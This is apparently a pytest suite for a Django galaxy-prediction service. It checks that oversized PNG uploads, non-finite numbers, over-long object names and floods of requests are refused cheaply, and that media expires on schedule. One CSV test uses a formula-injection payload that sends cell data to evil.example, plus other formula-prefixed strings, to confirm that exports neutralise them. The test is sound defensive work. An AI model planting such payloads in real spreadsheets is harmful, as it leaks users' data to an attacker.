"""Issue 16, the prediction side: cheap checks before expensive work, throttled page helpers, expiring media,
over-long object names answered in JSON, and CSV results that a spreadsheet cannot run as formulas.

The "huge PNG" is the review's case: about 27 KB of PNG declaring 4999 × 5000 pixels (just under the
25-megapixel cap), whose full-size alignment cost seconds of CPU before the "no model" 503.
"""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import requests
from django.conf import settings as django_settings
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageDraw
from rest_framework.throttling import SimpleRateThrottle

from labeling.tests.factories import UserFactory
from tests.ports import free_port

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
WEBROOT = django_settings.WEBROOT


@pytest.fixture(scope="module")
def huge_png() -> bytes:
    """A few kilobytes declaring 4999 × 5000 pixels: a faint elliptical galaxy on black."""
    image = Image.new("L", (4999, 5000), 0)
    ImageDraw.Draw(image).ellipse((2000, 2300, 3000, 2700), fill=200)
    buffer = io.BytesIO()
    image.save(buffer, "PNG", optimize=True)
    assert len(buffer.getvalue()) < 40_000
    return buffer.getvalue()


def _png_file(data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("huge.png", data, content_type="image/png")


def _failed_shape(response: Any) -> dict:  # noqa: ANN401
    body = response.json()
    assert body["status"] == "failed" and isinstance(body["message"], str) and body["message"], body
    return body


def _dangling_model(settings: Any) -> None:  # noqa: ANN401
    """An active pointer whose ensemble is missing: the cheap model check passes, loading it fails (503)."""
    store = Path(settings.MODEL_STORE)
    store.mkdir(parents=True, exist_ok=True)
    (store / "active.json").write_text(json.dumps({"version": "gone-1", "folder": "ensembles/gone-1"}))


# --- /predict/evaluate: bad numbers are 400, and nothing is fetched or decoded without a model --------------

@pytest.mark.parametrize("body", [
    '{"angle": NaN}', '{"angle": "inf"}', '{"angle": "-inf"}', '{"angle": Infinity}', '{"angle": -Infinity}',
    '{"angle": "1e400"}', '{"angle": 1' + "0" * 400 + "}", '{"scale": NaN}', '{"scale": 1e400}',
    '{"scale": -1' + "0" * 400 + "}", '{"angle": "²"}', '{"angle": "٣"}', '{"upload_id": "²"}',
    '{"upload_id": "٣٣"}', '{"upload_id": "' + "a" * 5000 + '"}', '{"upload_id": 12}',
    '{"ra": "²", "dec": "1", "fov": "2"}', '{"ra": "1", "dec": "NaN", "fov": "2"}',
    '{"ra": "1", "dec": "1", "fov": "1e400"}', '{"angle": 1, "ra": "' + "9" * 5000 + '", "dec": "1", "fov": "1"}',
])
def test_evaluate_answers_400_for_non_finite_huge_or_foreign_numbers(client: Any, body: str) -> None:  # noqa: ANN401
    response = client.post(f"{WEBROOT}predict/evaluate", body, content_type="application/json")
    assert response.status_code == 400, (body[:80], response.status_code, response.content[:300])
    _failed_shape(response)


def test_evaluate_without_a_model_answers_503_before_fetching_a_cutout(client: Any, monkeypatch: Any) -> None:  # noqa: ANN401
    def must_not_fetch(**_: Any) -> None:  # noqa: ANN401
        raise AssertionError("a cut-out was fetched although no model is active")

    monkeypatch.setattr("predictions.page_api.fetch_cutout", must_not_fetch)
    response = client.post(f"{WEBROOT}predict/evaluate", {"ra": "10.68", "dec": "41.27", "fov": "3", "angle": 10},
                           content_type="application/json")
    assert response.status_code == 503
    assert "No model ensemble is active" in _failed_shape(response)["message"]


def test_api_file_answers_503_before_decoding_a_huge_png(client: Any, huge_png: bytes, monkeypatch: Any) -> None:  # noqa: ANN401
    import predictions.services as services

    decoded: list[int] = []
    real_load = services.load_image
    monkeypatch.setattr(services, "load_image", lambda data, **kw: decoded.append(1) or real_load(data, **kw))
    started = time.process_time()
    response = client.post(f"{WEBROOT}api/file", {"file": _png_file(huge_png)})
    cpu_s = time.process_time() - started
    assert response.status_code == 503 and "No model" in _failed_shape(response)["message"]
    assert decoded == [], "the image was decoded before the model check"
    assert cpu_s < 1.0, f"{cpu_s:.2f} s of CPU for a 503"


def test_page_upload_decodes_a_huge_png_downscaled(client: Any, huge_png: bytes) -> None:  # noqa: ANN401
    """Kept and measured at no more than MAX_DECODE_SIDE pixels a side, and the notes say so."""
    response = client.post(f"{WEBROOT}predict/upload", {"file": _png_file(huge_png)})
    assert response.status_code == 200, response.content[:300]
    body = response.json()
    with default_storage.open(f"uploads/{body['upload_id']}.jpg") as handle:
        stored = Image.open(handle)
        assert max(stored.size) <= django_settings.MAX_DECODE_SIDE, stored.size
    assert any("from 4,999 × 5,000" in note for note in body["notes"]), body["notes"]


# --- throttles on the page helpers ---------------------------------------------------------------------

HELPERS = [
    ("predict_cutout", "get", "predict/cutout", {"ra": "x"}, None),
    ("predict_upload", "post", "predict/upload", {}, None),
    ("predict_evaluate", "post", "predict/evaluate", '{"angle": "NaN"}', "application/json"),
]


@pytest.mark.parametrize(("scope", "method", "path", "data", "content_type"), HELPERS)
def test_page_helpers_are_throttled_with_429_failed_json(client: Any, monkeypatch: Any, scope: str, method: str,  # noqa: ANN401
                                                        path: str, data: Any, content_type: str | None) -> None:  # noqa: ANN401
    monkeypatch.setattr(SimpleRateThrottle, "THROTTLE_RATES", {**SimpleRateThrottle.THROTTLE_RATES, scope: "2/min"})
    extra = {"content_type": content_type} if content_type else {}

    def send(**meta: str) -> Any:  # noqa: ANN401
        return getattr(client, method)(f"{WEBROOT}{path}", data, **extra, **meta)

    assert [send().status_code for _ in range(2)] == [400, 400]
    refused = send()
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert "Too many requests" in _failed_shape(refused)["message"]
    assert send(REMOTE_ADDR="10.9.8.7").status_code == 400  # another client has its own counter
    client.force_login(UserFactory())
    assert send().status_code == 400  # a signed-in user is counted per account


# --- over-long object names -------------------------------------------------------------------------

@pytest.mark.parametrize("length", [129, 5000])
def test_an_over_long_object_name_is_a_json_414(client: Any, length: int) -> None:  # noqa: ANN401
    response = client.get(f"{WEBROOT}api/objname/{'A' * length}")
    assert response.status_code == 414
    assert f"this one has {length:,}" in _failed_shape(response)["message"]


def test_a_128_character_name_is_still_looked_up(client: Any) -> None:  # noqa: ANN401
    response = client.get(f"{WEBROOT}api/objname/{'A' * 128}")
    assert response.status_code == 404 and _failed_shape(response)


@pytest.mark.integration
def test_gunicorn_lets_a_5000_character_name_reach_the_api(tmp_path: Path) -> None:
    """Started from the repository root as ``make run`` and the image do, gunicorn reads ``gunicorn.conf.py``:
    a 5,000-character name gets the API's JSON 414, not gunicorn's own HTML page (its default request-line
    limit is 4094 bytes)."""
    keep = {"PATH", "HOME", "LANG", "OPENBLAS_CORETYPE", "OPENBLAS_L2_SIZE"}
    env = {**{k: v for k, v in os.environ.items() if k in keep}, "VAR_DIR": str(tmp_path), "DEBUG": "false",
           "TF_CPP_MIN_LOG_LEVEL": "2"}
    port = free_port()
    server = subprocess.Popen([sys.executable, "-m", "gunicorn", "inclinet_site.wsgi", "-b", f"127.0.0.1:{port}",
                               "--workers", "1", "--threads", "2"], cwd=ROOT, env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 90
        while True:
            try:
                response = requests.get(f"http://127.0.0.1:{port}/api/objname/{'N' * 5000}", timeout=10)
                break
            except requests.ConnectionError:
                assert time.monotonic() < deadline and server.poll() is None, "gunicorn did not start"
                time.sleep(0.5)
        assert response.status_code == 414, response.text[:300]
        assert response.headers["Content-Type"].startswith("application/json"), response.text[:300]
        assert "this one has 5,000" in response.json()["message"]
    finally:
        server.terminate()
        server.wait(timeout=30)


# --- expiry of uploads and model inputs -------------------------------------------------------------

def _aged_file(path: str, age_s: float) -> Path:
    full = Path(django_settings.MEDIA_ROOT) / path
    full.parent.mkdir(parents=True, exist_ok=True)
    full.write_bytes(b"x")
    stamp = time.time() - age_s
    os.utime(full, (stamp, stamp))
    return full


def test_expiry_deletes_uploads_and_model_inputs_past_their_age(settings: Any) -> None:  # noqa: ANN401
    from predictions.retention import prediction_media_expire

    settings.MEDIA_EXPIRY_AGE_S, settings.MODEL_INPUT_EXPIRY_AGE_S = 24 * 3600, 8 * 24 * 3600
    old_upload = _aged_file("uploads/aaaa.jpg", 25 * 3600)
    new_upload = _aged_file("uploads/bbbb.jpg", 23 * 3600)
    old_input = _aged_file("model_inputs/ab/abcd.png", 9 * 24 * 3600)
    kept_input = _aged_file("model_inputs/ab/abce.png", 2 * 24 * 3600)  # older than an upload's age, kept
    other = _aged_file("batch/results/x.csv", 30 * 24 * 3600)  # not ours to expire
    assert prediction_media_expire() == {"uploads": 1, "model_inputs": 1}
    assert not old_upload.exists() and not old_input.exists()
    assert new_upload.exists() and kept_input.exists() and other.exists()
    assert prediction_media_expire() == {"uploads": 0, "model_inputs": 0}


def test_expiry_with_no_media_folders_yet_does_nothing() -> None:
    from predictions.retention import prediction_media_expire

    assert prediction_media_expire() == {"uploads": 0, "model_inputs": 0}


def test_expiry_runs_as_a_beat_task_on_the_configured_interval(settings: Any) -> None:  # noqa: ANN401
    from inclinet_site.celery import app
    from predictions.tasks import expire_prediction_media

    settings.MEDIA_EXPIRY_AGE_S = 60
    old_upload = _aged_file("uploads/cccc.jpg", 120)
    assert expire_prediction_media() == {"uploads": 1, "model_inputs": 0}  # the task body, run here
    assert not old_upload.exists()
    entry = next(e for e in app.conf.beat_schedule.values() if e["task"] == expire_prediction_media.name)
    assert entry["schedule"] == float(django_settings.MEDIA_EXPIRY_INTERVAL_S)


def test_an_expired_upload_asks_for_the_image_again(client: Any, settings: Any) -> None:  # noqa: ANN401
    from predictions.retention import prediction_media_expire

    _dangling_model(settings)
    _aged_file("uploads/dddd.jpg", 2 * 24 * 3600)
    prediction_media_expire()
    response = client.post(f"{WEBROOT}predict/evaluate", {"upload_id": "dddd"}, content_type="application/json")
    assert response.status_code == 404 and "upload the image again" in _failed_shape(response)["message"]


# --- batch results CSV --------------------------------------------------------------------------------

def test_batch_results_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    from predictions.batch import _write_results, batch_job_create

    items = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "\rCR",
             "NGC 598"]
    job = batch_job_create(kind="csv", filename="x.csv", data=b"NGC 598\n")
    partial = tmp_path / "partial.jsonl"
    partial.write_text("".join(json.dumps({"item": item, "status": "failed", "message": f"{item} was not found"})
                               + "\n" for item in items))
    _write_results(job, str(partial))
    with default_storage.open(job.result_file.name) as handle:
        rows = list(csv.DictReader(io.StringIO(handle.read().decode())))
    assert [row["item"] for row in rows] == ["'" + item for item in items[:-1]] + ["NGC 598"]
    assert all(not row["message"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)


@pytest.mark.parametrize(("data", "expected"), [
    (b"M33\r\nM31\rNGC 598\n", ["M33", "M31", "NGC 598"]),  # a bare CR ends a line (was: csv.Error, a 500)
    (b'"M 33\nM31', ["M 33\nM31"]),
])
def test_batch_csv_input_with_carriage_returns_is_read(data: bytes, expected: list[str]) -> None:
    from predictions.batch import _csv_items

    assert _csv_items(data) == expected


def test_batch_csv_input_the_csv_module_cannot_read_is_a_400(client: Any) -> None:  # noqa: ANN401
    response = client.post(f"{WEBROOT}api/batch", {"file": SimpleUploadedFile("x.csv", b"x" * 200_000 + b"\n")})
    assert response.status_code == 400 and "cannot be read" in _failed_shape(response)["message"]


@pytest.mark.parametrize("path", ["upload", "cutout"])
def test_served_predictions_decode_downscaled(path: str, huge_png: bytes, monkeypatch: Any) -> None:  # noqa: ANN401
    """With a model active, /api/file and the catalogue paths decode at no more than MAX_DECODE_SIDE a side."""
    from catalog.imaging import load_image
    from types import SimpleNamespace

    from catalog.selectors import Target
    from predictions import services

    sides: list[int] = []

    def spy(data: bytes, **kwargs: Any) -> Any:  # noqa: ANN401
        image = load_image(data, **kwargs)
        sides.append(max(image.pixels.shape[:2]))
        raise RuntimeError("stop after decoding")

    monkeypatch.setattr(services, "load_image", spy)
    with pytest.raises(RuntimeError, match="stop after decoding"):
        if path == "upload":
            services._upload_prediction(huge_png, None, 1.0)
        else:
            monkeypatch.setattr(services, "fetch_cutout", lambda **kwargs: SimpleNamespace(data=huge_png))
            services._target_prediction(Target(ra=10.0, dec=20.0, fov_arcmin=3.0), None, 1.0, "measured")
    assert sides and sides[0] <= django_settings.MAX_DECODE_SIDE, sides
